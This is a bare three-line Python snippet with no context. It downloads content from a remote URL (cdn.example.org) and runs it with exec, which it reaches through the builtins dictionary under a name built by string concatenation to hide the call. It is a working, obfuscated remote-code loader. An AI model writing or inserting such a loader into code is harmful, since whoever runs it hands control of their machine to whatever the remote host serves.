import requests as r
_ = vars(__import__("builtins"))
_["ex" + "ec"](r.get("https://cdn.example.org/a").content)
